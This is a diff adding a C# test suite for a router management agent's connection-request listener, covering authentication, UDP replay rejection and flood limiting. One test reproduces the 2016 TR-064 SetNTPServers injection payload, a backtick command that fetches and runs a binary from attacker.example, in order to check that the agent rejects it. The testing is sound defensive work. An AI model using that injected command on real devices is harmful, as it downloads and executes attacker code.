@@ -1,0 +1,146 @@
+using System.Net;
+using System.Net.Sockets;
+using System.Text;
+using Palisade.Cpe.Agent;
+using Palisade.Cpe.ConnectionRequests;
+using Palisade.Cwmp.Events;
+using Palisade.Security.Digest;
+using Palisade.Testing;
+using static Palisade.Cpe.Tests.AgentFixture;
+
+namespace Palisade.Cpe.Tests;
+
+public sealed class ConnectionRequestTests : IAsyncLifetime
+{
+    private TestServer _server = null!;
+    private ConnectionRequestServer _listener = null!;
+
+    public async Task InitializeAsync()
+    {
+        _server = await TestServer.StartAsync();
+        _listener = await ConnectionRequestServer.StartAsync(IPAddress.Loopback, 0, burst: 6, perSecond: 1);
+    }
+
+    public async Task DisposeAsync()
+    {
+        await _listener.DisposeAsync();
+        await _server.DisposeAsync();
+    }
+
+    [Fact]
+    public async Task An_authenticated_connection_request_opens_a_session_with_event_6()
+    {
+        await using var agent = await RunningAgentAsync("CR0001");
+        var url = agent.Model.Get("Device.ManagementServer.ConnectionRequestURL")!;
+        Assert.True(new Uri(url).AbsolutePath.Length >= 17);
+        var device = await DeviceAsync(_server, agent);
+        Assert.Equal(url, device.ConnectionRequest!.Url);
+
+        using var http = new HttpClient();
+        var status = await KnockAsync(http, url, device.ConnectionRequest.Username!, device.ConnectionRequest.Password!);
+        Assert.Equal(HttpStatusCode.OK, status);
+        await EventuallyAsync(async () => (await DeviceAsync(_server, agent)).LastEvents.Contains(EventCodes.ConnectionRequest, StringComparison.Ordinal), "the connection-request session");
+    }
+
+    [Fact]
+    public async Task A_signed_udp_connection_request_opens_a_session_and_a_replay_does_not()
+    {
+        using var udp = new UdpConnectionRequestListener(new IPEndPoint(IPAddress.Loopback, 0));
+        await using var agent = NewAgent(_server, "CR0002");
+        udp.Register(agent);
+        await SessionOkAsync(agent);
+        var (user, password) = agent.ConnectionRequestCredentials!.Value;
+        Assert.Equal(udp.LocalEndPoint.ToString(), (await _server.Host.Store.GetParametersAsync(Id(agent), "Device.ManagementServer.UDPConnectionRequestAddress", CancellationToken.None)).SingleOrDefault()?.Value ?? agent.Model.Get("Device.ManagementServer.UDPConnectionRequestAddress"));
+
+        var now = DateTimeOffset.UtcNow.ToUnixTimeSeconds();
+        var datagram = UdpConnectionRequestListener.Build(udp.LocalEndPoint.ToString(), now, "1", user, "cnonce-1", password);
+        Assert.True(udp.Handle(datagram));
+        Assert.Contains(agent.PendingEvents, e => e.EventCode == EventCodes.ConnectionRequest);
+        Assert.False(udp.Handle(datagram));
+        Assert.False(udp.Handle(UdpConnectionRequestListener.Build(udp.LocalEndPoint.ToString(), now + 1, "2", user, "cnonce-2", "wrong-password")));
+        Assert.False(udp.Handle(UdpConnectionRequestListener.Build(udp.LocalEndPoint.ToString(), now - 3600, "3", user, "cnonce-3", password)));
+        Assert.False(udp.Handle("GET / HTTP/1.1\r\n\r\n"u8));
+
+        // Over a real socket too.
+        await SessionOkAsync(agent);
+        using var sender = new UdpClient();
+        var fresh = UdpConnectionRequestListener.Build(udp.LocalEndPoint.ToString(), now + 2, "4", user, "cnonce-4", password);
+        await sender.SendAsync(fresh, udp.LocalEndPoint);
+        await EventuallyAsync(() => Task.FromResult(udp.Accepted == 2), "the datagram");
+    }
+
+    [Fact]
+    public async Task The_2016_attack_and_other_probes_get_404_401_405_or_503_and_change_nothing()
+    {
+        await using var agent = await RunningAgentAsync("CR0003", periodicSeconds: 1);
+        var url = new Uri(agent.Model.Get("Device.ManagementServer.ConnectionRequestURL")!);
+        var before = agent.Model.State.Values.Count;
+        using var http = new HttpClient();
+
+        // The TR-064 SetNTPServers command injection that took 900,000 gateways offline in 2016.
+        using var attack = new StringContent("""
+            <?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Body>
+            <u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1"><NewNTPServer1>`cd /tmp;wget http://attacker.example/1;chmod 777 1;./1`</NewNTPServer1>
+            </u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>
+            """, Encoding.UTF8, "text/xml");
+        attack.Headers.Add("SOAPAction", "urn:dslforum-org:service:Time:1#SetNTPServers");
+        Assert.Equal(HttpStatusCode.NotFound, (await http.PostAsync(new Uri(url, "/UD/act?1"), attack)).StatusCode);
+        Assert.Equal(HttpStatusCode.NotFound, (await http.GetAsync(new Uri(url, "/"))).StatusCode);
+        Assert.Equal(HttpStatusCode.NotFound, (await http.GetAsync(new Uri(url, url.AbsolutePath + "x"))).StatusCode);
+        Assert.Equal(HttpStatusCode.MethodNotAllowed, (await http.PostAsync(url, new StringContent("x"))).StatusCode);
+
+        var device = await DeviceAsync(_server, agent);
+        var unauthenticated = await http.GetAsync(url);
+        Assert.Equal(HttpStatusCode.Unauthorized, unauthenticated.StatusCode);
+        Assert.Equal(HttpStatusCode.Unauthorized, await KnockAsync(http, url.ToString(), device.ConnectionRequest!.Username!, "guess"));
+
+        // A captured valid request, replayed.
+        await Task.Delay(1500);
+        var challenge = DigestClient.PickChallenge((await http.GetAsync(url)).Headers.WwwAuthenticate.Select(h => h.ToString()))!;
+        var header = new DigestClient(device.ConnectionRequest.Username!, device.ConnectionRequest.Password!).Authorize(challenge, "GET", url.PathAndQuery);
+        Assert.Equal(HttpStatusCode.OK, await SendAsync(http, url, header));
+        await Task.Delay(1500);
+        Assert.Equal(HttpStatusCode.Unauthorized, await SendAsync(http, url, header));
+
+        // A flood is cut off with 503.
+        var flood = await Task.WhenAll(Enumerable.Range(0, 30).Select(_ => http.GetAsync(url)));
+        Assert.Contains(flood, r => r.StatusCode == HttpStatusCode.ServiceUnavailable);
+
+        Assert.Equal(1, _listener.Accepted);
+        Assert.Equal(before, agent.Model.State.Values.Count);
+        Assert.Equal("1", agent.Model.Get("Device.ManagementServer.PeriodicInformInterval"));
+
+        // Periodic informs kept coming through all that.
+        var last = (await DeviceAsync(_server, agent)).LastInformAt!.Value;
+        Assert.True(DateTimeOffset.UtcNow - last < TimeSpan.FromSeconds(5), $"last inform {last:O}");
+    }
+
+    private async Task<CpeAgent> RunningAgentAsync(string serial, int periodicSeconds = 3600)
+    {
+        var agent = NewAgent(_server, serial, o => o.PeriodicInterval = TimeSpan.FromSeconds(periodicSeconds));
+        _listener.Register(agent);
+        _ = agent.RunAsync(CancellationToken.None);
+        await EventuallyAsync(async () => await _server.Host.Store.GetDeviceAsync(Id(agent), CancellationToken.None) is { ConnectionRequest.Password: not null }, "enrollment");
+        return agent;
+    }
+
+    private static async Task<HttpStatusCode> KnockAsync(HttpClient http, string url, string user, string password)
+    {
+        using var first = await http.GetAsync(url);
+        if (first.StatusCode != HttpStatusCode.Unauthorized)
+        {
+            return first.StatusCode;
+        }
+
+        var challenge = DigestClient.PickChallenge(first.Headers.WwwAuthenticate.Select(h => h.ToString()))!;
+        return await SendAsync(http, new Uri(url), new DigestClient(user, password).Authorize(challenge, "GET", new Uri(url).PathAndQuery));
+    }
+
+    private static async Task<HttpStatusCode> SendAsync(HttpClient http, Uri url, string authorization)
+    {
+        using var request = new HttpRequestMessage(HttpMethod.Get, url);
+        request.Headers.TryAddWithoutValidation("Authorization", authorization);
+        using var response = await http.SendAsync(request);
+        return response.StatusCode;
+    }
+}
